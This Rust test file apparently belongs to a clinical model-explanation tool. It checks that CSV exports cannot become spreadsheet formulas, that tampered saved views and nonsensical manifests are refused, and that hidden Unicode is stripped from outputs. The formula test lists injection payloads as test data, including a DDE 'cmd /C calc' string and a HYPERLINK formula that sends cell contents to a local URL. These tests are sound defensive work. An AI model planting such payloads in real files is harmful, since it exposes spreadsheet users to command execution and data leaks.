//! Out of the page again: tables that a spreadsheet must not compute, views that may claim nothing, manifests that make no
//! sense, assessments that say what they are of. The files of `tests/fixtures/cases` and others of their kinds.

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::common::{model, stay};
use vitrine::engine::explain::{Method, Options};
use vitrine::picture::layout::{Layout, LayoutRequest};
use vitrine::stay::{Edit, EnteredValue, Format, ReadOptions, Stay};
use vitrine::study::account::Account;
use vitrine::study::cohort::{Cohort, to_csv, trust};
use vitrine::study::export::risk_assessment::{Context, DATA, risk_assessment};
use vitrine::study::export::snapshot::{SavedExplanation, Snapshot};
use vitrine::study::export::{Provenance, csv, sha256};
use vitrine::study::history::{History, Joins};
use vitrine::study::inspect::Grids;
use vitrine::study::models::Explained;
use vitrine::{ManifestSource, Model};

fn case(path: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/cases").join(path);
    std::fs::read_to_string(path).unwrap()
}

/// The demo's network with a manifest beside it.
fn with(manifest: &str) -> Result<Model, vitrine::Error> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("www/models/in-hospital-mortality.onnx");
    Model::read(&std::fs::read(path).unwrap(), Some(manifest), &HashMap::new())
}

/// The demo's own manifest, with a change.
fn changed(change: impl FnOnce(&mut Value)) -> String {
    let mut manifest = serde_json::to_value(model().manifest()).unwrap();
    change(&mut manifest);
    manifest.to_string()
}

// Tables.

/// Every table that leaves: what a spreadsheet makes of it must be text or numbers, however it parts cells.
#[track_caller]
fn check_tables(manifest: &str, name: &str) {
    let model = with(manifest).unwrap();
    let text =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("www/stays/sparse-dirty_timeseries.csv"));
    // The records' own names for channels may be others.
    let text = text.unwrap();
    let stay = Stay::parse(&text, model.manifest(), Format::Auto, name)
        .unwrap_or_else(|_| Stay::unmeasured(model.manifest(), name));
    let relevance = model.explain(&stay.input, &Options::default()).unwrap();
    let provenance = Provenance {
        model: model.manifest().name.clone(),
        model_card: model.manifest().description.clone(),
        data: name.to_owned(),
        data_sha256: "y".into(),
        model_sha256: "x".into(),
        method: "lrp".into(),
        ..Provenance::default()
    };
    let mut cohort = Cohort::new(&model, Options::default());
    cohort.add(&model, name, &text, Format::Auto);
    cohort.add(&model, name, "no record", Format::Auto);
    let failed = trust::AuditRow {
        name: name.into(),
        n_players: 0,
        answers: vec![],
        probability: None,
        verdict: None,
        error: Some(name.into()),
    };
    let footer = Provenance { data_sha256: String::new(), ..provenance.clone() }.comments();
    for table in [
        csv::to_csv(model.manifest(), &stay, &Grids::relevance(model.manifest(), &relevance), &provenance),
        Account::of(model.manifest(), &relevance).to_csv(model.manifest(), &provenance),
        to_csv(cohort.rows()) + &footer,
        trust::rows_to_csv(&[failed]) + &footer,
    ] {
        check_table(&table, name);
    }
}

#[track_caller]
fn check_table(table: &str, name: &str) {
    let mut n_footer = 0;
    for line in table.lines() {
        n_footer += usize::from(line.starts_with("# "));
    }
    assert_eq!(n_footer, 5, "the footer has five lines, each a comment: {table}");
    for separator in [',', ';', '\t'] {
        // As a spreadsheet parts cells, and as somebody does who does not know of quotes.
        let mut reader = ::csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .delimiter(separator as u8)
            .from_reader(table.as_bytes());
        let cells = reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>());
        let naive = table.lines().flat_map(|line| line.split(separator).map(str::to_owned));
        for cell in cells.chain(naive) {
            let start = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
            let is_formula = start.starts_with(['=', '+', '@', '\u{ff1d}'])
                || (start.starts_with('-') && start.trim_end_matches('"').trim().parse::<f64>().is_err());
            assert!(!is_formula, "{name}: the cell {cell:?}, parted at {separator:?}");
        }
    }
}

#[test]
fn no_cell_of_a_table_is_a_formula() {
    check_tables(&case("hostile/formula-footer.json"), "a,=1+1,@x.csv");
    check_tables(&case("hostile/formula-cells.json"), "=1+1.csv");
    check_tables(&case("hostile/formula-tab-2.json"), "b;=3+3\t@y.csv");
    for hostile in [
        "=HYPERLINK(\"http://127.0.0.1/?\"&A2,\"open\")",
        "-2+3+cmd|' /C calc'!A0",
        "a\r\n=1+1",
        "\u{feff}=1+1",
        "\u{202e}@SUM(1)",
        "  \t+1+1",
        "a\",=1+1,\"",
        "\u{ff1d}1+1",
        "x;\"=1+1\"",
    ] {
        let manifest = changed(|it| {
            it["name"] = hostile.into();
            it["description"] = format!("card {hostile}; {hostile}").into();
            it["outcomes"][0]["name"] = hostile.into();
            it["channels"][4]["label"] = format!("{hostile} 4").into();
            it["channels"][12]["unit"] = hostile.into();
            it["channels"][13]["name"] = hostile.into();
        });
        check_tables(&manifest, hostile);
    }
}

/// A table is no less of a table for that: a negative number is read as one.
#[test]
fn numbers_stay_numbers() {
    let model = model();
    let stay = stay(&model, "septic-shock");
    let relevance = model.explain(&stay.input, &Options::default()).unwrap();
    let grids = Grids::relevance(model.manifest(), &relevance);
    let table = csv::to_csv(model.manifest(), &stay, &grids, &Provenance::default());
    let mut reader = ::csv::ReaderBuilder::new().comment(Some(b'#')).from_reader(table.as_bytes());
    let sums = reader.records().map(|row| row.unwrap()).fold([0.0, 0.0], |[all, negative], row| {
        let number = row[7].parse::<f64>().unwrap() + row[8].parse::<f64>().unwrap();
        [all + number, negative + f64::from(u8::from(number < 0.0))]
    });
    assert!((sums[0] - relevance.values.iter().sum::<f64>()).abs() < 1e-12);
    assert!(sums[1] > 100.0, "{} cells are negative", sums[1]);
}

// Saved views.

fn saved(model: &Model, stay: &Stay, explained: Vec<SavedExplanation>) -> Value {
    let provenance =
        Provenance { model_sha256: sha256(b"model"), data_sha256: sha256(b"record"), ..Provenance::default() };
    let view = json!({ "palette": "puor" });
    let snapshot = Snapshot::new(model.manifest(), provenance, stay, Vec::new(), 0, explained, view);
    serde_json::from_str(&snapshot.to_json().unwrap()).unwrap()
}

fn open(model: &Model, file: &Value) -> Result<(History, Vec<Explained>), String> {
    let read = Snapshot::from_json(&file.to_string());
    read.and_then(|read| read.restore(model, &sha256(b"model"))).map_err(|error| error.to_string())
}

/// A view of the base stay, explained by LRP and the gradient.
fn view(model: &Model) -> Value {
    let stay = stay(model, "septic-shock");
    let gradient = Options { method: Method::Gradient, ..Options::default() };
    let explained = [
        ("lrp", json!({ "method": "lrp", "epsilon": 0.01 }), Options::default()),
        ("gradient", json!({ "method": "gradient" }), gradient),
    ]
    .map(|(name, how, options)| SavedExplanation::of(name, how, &model.explain(&stay.input, &options).unwrap()));
    saved(model, &stay, explained.to_vec())
}

/// Makes the changes of a case file: a path and a value, or a number for all, some by index.
fn apply(file: &mut Value, changes: &Value) {
    for change in changes["change"].as_array().unwrap() {
        let path = format!("/{}", change["path"].as_str().unwrap().replace('.', "/"));
        let place = file.pointer_mut(&path).unwrap();
        if let Some(value) = change.get("value") {
            *place = value.clone();
        }
        let Some(list) = place.as_array_mut() else { continue };
        if let Some(fill) = change.get("fill") {
            list.iter_mut().for_each(|one| *one = fill.clone());
        }
        for (index, value) in change["at"].as_object().into_iter().flatten() {
            list[index.parse::<usize>().unwrap()] = value.clone();
        }
    }
}

#[track_caller]
fn check_view(changes: &Value, words: &[&str]) {
    let model = model();
    let mut file = view(&model);
    open(&model, &file).unwrap();
    apply(&mut file, changes);
    let error = open(&model, &file).map(|_| ()).unwrap_err();
    assert!(words.iter().all(|word| error.contains(word)), "{error}");
}

#[test]
fn a_view_that_claims_what_the_engine_does_not_find_is_refused() {
    let file = |name: &str| serde_json::from_str::<Value>(&case(&format!("views/{name}.json"))).unwrap();
    check_view(&file("view-one-cell"), &["explanations.score", "is 5 in the file"]);
    check_view(&file("view-huge"), &["explanations.relevance", "number 0"]);
    check_view(&file("view-score-2"), &["explanations.score", "0.3"]);
    check_view(&file("view-someone"), &["is not what was saved", "provenance"]);
    check_view(&file("view-no-method"), &["explanations.options.method", "no such method"]);
    check_view(&file("view-bad-options-2"), &["explanations.options"]);
}

/// What the page calls by a demo stay's name has that stay's readings: a name alone proves nothing.
#[test]
fn a_view_is_of_a_stay_whose_readings_it_has() {
    let model = model();
    let manifest = model.manifest();
    let is_of =
        |file: &Value, name: &str| Snapshot::from_json(&file.to_string()).unwrap().is_of(manifest, &stay(&model, name));
    let mut file = view(&model);
    assert!(is_of(&file, "septic-shock"));
    assert!(!is_of(&file, "stable"));
    let (_, readings) = file["stay"]["readings"]["Heart Rate"].as_object_mut().unwrap().iter_mut().next().unwrap();
    *readings = json!(readings.as_f64().unwrap() + 1.0);
    assert!(!is_of(&file, "septic-shock"));
}

#[test]
fn whatever_is_changed_in_a_view_is_named() {
    let set = |path: &str, value: Value| json!({ "change": [{ "path": path, "value": value }] });
    let whole = json!({ "name": "another patient" });
    for (path, value, word) in [
        ("stay.name", whole["name"].clone(), "stay.name"),
        ("stay.report.rows", json!(1), "stay.report"),
        (
            "stay.report.notes",
            json!([{ "line": 0, "channel": "", "message": "checked by the hospital" }]),
            "stay.report",
        ),
        ("stay.report.source.patient", json!("Patient/someone"), "stay.report"),
        ("stay.report.source.basis", json!(["Observation/forged"]), "stay.report"),
        ("stay.report.observed.3", json!(48), "stay.report.observed"),
        ("provenance.dataSha256", json!("00"), "provenance"),
        ("provenance.data", json!("another.csv"), "provenance"),
        ("digests", json!({}), "is not what was saved"),
        ("explanations.0.isProbability", json!(false), "isProbability"),
        ("explanations.0.logit", json!(-1.7), "explanations.logit"),
        ("explanations.0.ledger", Value::Null, "explanations.ledger"),
        ("explanations.0.ledger.biases", json!(0.5), "explanations.ledger.biases"),
        ("explanations.0.ledger.epsilon", json!(f64::MAX), "explanations.ledger.epsilon"),
        ("explanations.1.relevance.2290", json!(1e-3), "number 2290"),
        ("explanations.0.options.epsilon", json!(0.5), "explanations"),
        ("explanations.0.options.epsilon", json!(-1.0), "epsilon"),
        ("explanations.0.options.epsilon", json!("0.01"), "explanations.options"),
        ("explanations.0.options.gates", json!("none"), "explanations.options.gates"),
        ("explanations.0.options.rule", json!("arras2018"), "explanations.options.rule"),
        ("explanations.0.options.by", json!("patient"), "explanations.options.by"),
        ("explanations.0.options.surprise", json!(1), "surprise"),
        ("explanations.0.options.target", json!(1), "explanations.options.target"),
        ("explanations.0.options", json!("lrp"), "explanations.options"),
        ("explanations.1.name", json!("lrp"), "two explanations"),
    ] {
        let (parent, last) = path.rsplit_once('.').unwrap_or(("", path));
        let model = model();
        let mut file = view(&model);
        let parent =
            file.pointer_mut(&if parent.is_empty() { String::new() } else { format!("/{}", parent.replace('.', "/")) });
        match parent.unwrap() {
            Value::Array(list) => list[last.parse::<usize>().unwrap()] = value,
            Value::Object(object) => {
                object.insert(last.to_owned(), value);
            }
            other => panic!("{path}: {other}"),
        }
        let error = open(&model, &file).map(|_| ()).err().unwrap_or_else(|| panic!("{path} was not seen"));
        assert!(error.contains(word), "{path}: {error}");
    }
    // What another version rounds otherwise is no claim.
    let model = model();
    let mut file = view(&model);
    let score = file["explanations"][0]["score"].as_f64().unwrap();
    apply(&mut file, &set("explanations.0.score", json!(score * (1.0 + 1e-9))));
    open(&model, &file).unwrap();
}

/// Every method that the page offers is explained anew as it was explained, chance included.
#[test]
fn views_of_every_method_open() {
    let model = model();
    let stay = stay(&model, "sparse-dirty");
    let own = vitrine::stay::removal::held_from(model.manifest(), &stay.input, 12);
    let text = "Hours,Heart Rate,pH\n0.5,96,7.31\n20,140,7.2\n";
    let other = Stay::parse(text, model.manifest(), Format::Auto, "other").unwrap().input;
    let of = |method| Options { method, ..Options::default() };
    let ways = [
        (json!({ "method": "abs-gradient" }), of(Method::AbsGradient), None),
        (json!({ "method": "gradient-x-input" }), of(Method::GradientXInput), None),
        (
            json!({ "method": "smooth-grad", "steps": 5, "noise": 0.2, "seed": 7 }),
            Options { steps: Some(5), noise: 0.2, seed: 7, ..of(Method::SmoothGrad) },
            None,
        ),
        (json!({ "method": "integrated-gradients" }), of(Method::IntegratedGradients), None),
        (json!({ "method": "deep-shap", "reference": "own", "referenceHours": 12 }), of(Method::DeepShap), Some(own)),
        (
            json!({ "method": "deep-shap", "reference": "stay", "referenceStay": { "name": "other", "text": text } }),
            of(Method::DeepShap),
            Some(other),
        ),
        (json!({ "method": "occlusion" }), of(Method::Occlusion), None),
        (Value::Null, Options::default(), None),
    ];
    for (how, options, baseline) in ways {
        let trace = model.trace(&stay.input).unwrap();
        let made = model.explain_against(&trace, baseline.as_deref(), &options).unwrap();
        let mut file = saved(&model, &stay, vec![SavedExplanation::of("lrp", how.clone(), &made)]);
        let (_, found) = open(&model, &file).unwrap_or_else(|error| panic!("{how}: {error}"));
        assert_eq!(found[0].mean.values, made.values, "{how}");
        let largest = made.values.iter().fold(0.0_f64, |largest, r| largest.max(r.abs()));
        file["explanations"][0]["relevance"][7] = json!(largest);
        assert!(open(&model, &file).unwrap_err().contains("number 7"), "{how}");
    }
}

// Assessments.

fn assessed(model: &Model, stay: &Stay, subject: Option<&str>) -> Result<Value, vitrine::Error> {
    let relevance = model.explain(&stay.input, &Options::default()).unwrap();
    let context = Context { subject: subject.map(str::to_owned), ..Context::default() };
    risk_assessment(model, stay, &relevance, 0, &context)
}

/// Parts of the extension, by their names.
fn parts(resource: &Value) -> HashMap<String, Value> {
    let extension = resource["extension"].as_array().unwrap().iter().find(|it| it["url"] == DATA).unwrap();
    let part = |it: &Value| {
        let value = it.as_object().unwrap().iter().find(|(key, _)| key.starts_with("value")).unwrap().1.clone();
        (it["url"].as_str().unwrap().to_owned(), value)
    };
    extension["extension"].as_array().unwrap().iter().map(part).collect()
}

fn notes(resource: &Value) -> String {
    resource["note"].as_array().unwrap().iter().filter_map(|note| note["text"].as_str()).collect::<Vec<_>>().join("\n")
}

fn of_one(model: &Model) -> Stay {
    Stay::read(&case("fhir/subject-another.json"), model.manifest(), &ReadOptions::default()).unwrap()
}

#[test]
fn the_patient_is_the_records() {
    let model = model();
    let stay = of_one(&model);
    for subject in [None, Some("Patient/one"), Some(" ")] {
        assert_eq!(assessed(&model, &stay, subject).unwrap()["subject"]["reference"], "Patient/one");
    }
    for subject in ["Patient/two", "https://elsewhere.example/Patient/one", "one", "Patient/One"] {
        let error = assessed(&model, &stay, Some(subject)).unwrap_err().to_string();
        assert!(error.contains(subject) && error.contains("Patient/one"), "{error}");
    }
    let unnamed = stay_of_table(&model);
    assert_eq!(assessed(&model, &unnamed, Some("Patient/two")).unwrap()["subject"]["reference"], "Patient/two");
    assert_eq!(assessed(&model, &unnamed, None).unwrap()["subject"]["display"], "not named in the record");
}

fn stay_of_table(model: &Model) -> Stay {
    stay(model, "stable")
}

#[test]
fn an_assessment_says_what_it_is_of() {
    let model = model();
    let stay = of_one(&model);
    let whole = assessed(&model, &stay, None).unwrap();
    assert_eq!(whole["basis"].as_array().map(Vec::len), Some(1));
    let of = parts(&whole);
    // One heart rate at six o'clock, which is hour zero; the network reads 48 hours of 17 variables.
    assert_eq!([&of["variables-measured"], &of["variables"], &of["cells-measured"], &of["cells"]], [1, 17, 1, 816]);
    assert_eq!(of["period"], json!({ "start": "2031-05-04T06:00:00Z", "end": "2031-05-06T06:00:00Z" }));
    assert_eq!((&of["as-read"], &of["edits"], &of["known-hours"]), (&json!(true), &json!(0), &json!(48.0)));
    assert!(notes(&whole).contains("1 of 17 variables"), "{}", notes(&whole));

    let mut history = History::new(&model, stay.clone(), 0).unwrap();
    history.edit(&model, Edit::set(4, 3, EnteredValue::Value(120.0)), Joins::Never).unwrap();
    let edited = assessed(&model, history.stay(), None).unwrap();
    assert_eq!((edited.get("basis"), &parts(&edited)["edits"]), (None, &json!(1)));
    assert!(notes(&edited).contains("changed by 1 edit"), "{}", notes(&edited));
    history.undo(&model).unwrap();
    assert_eq!(assessed(&model, history.stay(), None).unwrap(), whole, "an edit that is undone is none");

    let early = assessed(&model, &stay.known_until(model.manifest(), 6), None).unwrap();
    let of = parts(&early);
    assert_eq!((early.get("basis"), &of["known-hours"]), (None, &json!(6.0)));
    assert_eq!(of["period"]["end"], "2031-05-04T12:00:00Z", "the last hour that is known");
    assert!(notes(&early).contains("As of hour 6"), "{}", notes(&early));

    let mut bundle: Value = serde_json::from_str(&case("fhir/subject-another.json")).unwrap();
    let mut odd = bundle["entry"][0].clone();
    odd["resource"]["id"] = "o2".into();
    odd["resource"]["effectiveDateTime"] = "2031-05-04T07:00:00Z".into();
    odd["resource"]["valueQuantity"]["unit"] = "furlong".into();
    odd["resource"]["valueQuantity"]["code"] = "[fur_us]".into();
    bundle["entry"].as_array_mut().unwrap().push(odd);
    let partly = Stay::read(&bundle.to_string(), model.manifest(), &ReadOptions::default()).unwrap();
    let partly = assessed(&model, &partly, None).unwrap();
    assert_eq!((partly.get("basis"), &parts(&partly)["rows-not-used"]), (None, &json!(1)));
    assert!(notes(&partly).contains("Read in part"), "{}", notes(&partly));
}

/// A view is no record: whatever it says, and even where its digests were made to fit.
#[test]
fn an_assessment_of_a_saved_view_names_neither_patient_nor_basis() {
    let model = model();
    let stay = of_one(&model);
    let made = model.explain(&stay.input, &Options::default()).unwrap();
    let file = saved(&model, &stay, vec![SavedExplanation::of("lrp", Value::Null, &made)]);
    let (history, _) = open(&model, &file).unwrap();
    let resource = assessed(&model, history.stay(), None).unwrap();
    let text = resource.to_string();
    assert!(!text.contains("Patient/one") && !text.contains("Observation/o1"), "{text}");
    assert!(notes(&resource).contains("Out of a saved view"), "{}", notes(&resource));
    assert_eq!(parts(&resource)["as-read"], false);
    assert!(assessed(&model, history.stay(), Some("Patient/two")).is_err(), "the view says that it is of another");
}

#[test]
fn an_explanation_of_another_stay_is_refused() {
    let model = model();
    let other = model.explain(&stay(&model, "septic-shock").input, &Options::default()).unwrap();
    let error = risk_assessment(&model, &of_one(&model), &other, 0, &Context::default()).unwrap_err().to_string();
    assert!(error.contains("another stay"), "{error}");
}

// Manifests.

#[test]
fn manifests_that_make_no_sense_are_refused_by_name() {
    for (file, words) in [
        ("std-1e30", ["Heart Rate", "std"]),
        ("normal-outside", ["Heart Rate", "10 to 300"]),
        ("mean-minus-1e38", ["Glucose", "mean"]),
        ("labels-swapped", ["Heart Rate", "Glucose"]),
    ] {
        let error = with(&case(&format!("manifests/{file}.json"))).unwrap_err().to_string();
        assert!(words.iter().all(|word| error.contains(word)), "{file}: {error}");
    }
    for (path, value, word) in [
        ("/channels/12/encoding/std", json!(1e-30), "Glucose"),
        ("/channels/12/encoding/std", json!(1e12), "Glucose"),
        ("/channels/12/encoding/mean", json!(1e20), "Glucose"),
        ("/channels/14/encoding/normal", json!(98.6), "25 to 45"),
        ("/channels/4/label", json!("glucose"), "channels["),
        ("/channels/4/label", json!("GCS  EYE"), "channels["),
        ("/channels/4/name", json!("glucose"), "channels["),
        ("/channels/4/label", json!("Gluc\u{200b}ose"), "channels["),
        ("/channels/4/label", json!("\u{202e}\u{ffff}"), "is empty"),
    ] {
        let manifest = changed(|it| *it.pointer_mut(path).unwrap() = value.clone());
        let error = with(&manifest).unwrap_err().to_string();
        assert!(error.contains(word), "{path} {value}: {error}");
    }
}

/// What hides or turns text, and what XML forbids, is gone from wherever the name of a thing goes.
#[test]
fn nothing_that_hides_or_turns_text_reaches_pictures_and_tables() {
    let hidden = ['\u{202e}', '\u{2066}', '\u{200b}', '\u{ffff}', '\u{fffe}', '\u{feff}', '\0', '\u{1b}'];
    let both = changed(|it| {
        let all: String = hidden.iter().collect();
        for field in ["label", "group", "unit"] {
            it["channels"][4][field] = format!("a{all}{field}").into();
        }
        it["name"] = format!("model{all}").into();
        it["outcomes"][0]["name"] = format!("death{all}").into();
    });
    for manifest in [case("manifests/bidi-label.json"), case("manifests/ffff-label.json"), both] {
        let model = with(&manifest).unwrap();
        assert_eq!(model.manifest_source(), ManifestSource::InPlace);
        let all: String = hidden.iter().collect();
        let name = format!("mine{all}.csv");
        let record = "Hours,Heart Rate\n0.5,80\n";
        let stay = Stay::parse(record, model.manifest(), Format::Auto, &name).unwrap();
        let relevance = model.explain(&stay.input, &Options::default()).unwrap();
        let layout =
            Layout::new(model.manifest(), LayoutRequest { width: 160, cell_height: 18, group_gap: 24, line: 1 });
        let provenance =
            Provenance { model: model.manifest().name.clone(), data: name.clone(), ..Provenance::default() };
        let figure = vitrine::picture::svg::SvgFigure {
            heading: &[stay.name.clone(), model.manifest().outcomes[0].name.clone()],
            panels: vec![],
            footer: &provenance.lines(),
            words: &Default::default(),
        };
        let grids = Grids::relevance(model.manifest(), &relevance);
        let out = [
            vitrine::picture::svg::to_svg(&figure, model.manifest(), &layout, LIGHT),
            csv::to_csv(model.manifest(), &stay, &grids, &provenance),
            Account::of(model.manifest(), &relevance).to_csv(model.manifest(), &provenance),
            assessed(&model, &stay, None).unwrap().to_string(),
            serde_json::to_string(&stay.report).unwrap(),
        ];
        for text in out {
            assert!(!text.contains(hidden), "{:?} in {text}", hidden.iter().find(|c| text.contains(**c)));
        }
    }
}

const LIGHT: vitrine::picture::pixmap::Theme = vitrine::picture::pixmap::Theme {
    background: vitrine::picture::colormap::Rgb([0xfb, 0xfa, 0xf8]),
    ink: vitrine::picture::colormap::Rgb([0x1d, 0x1f, 0x23]),
};
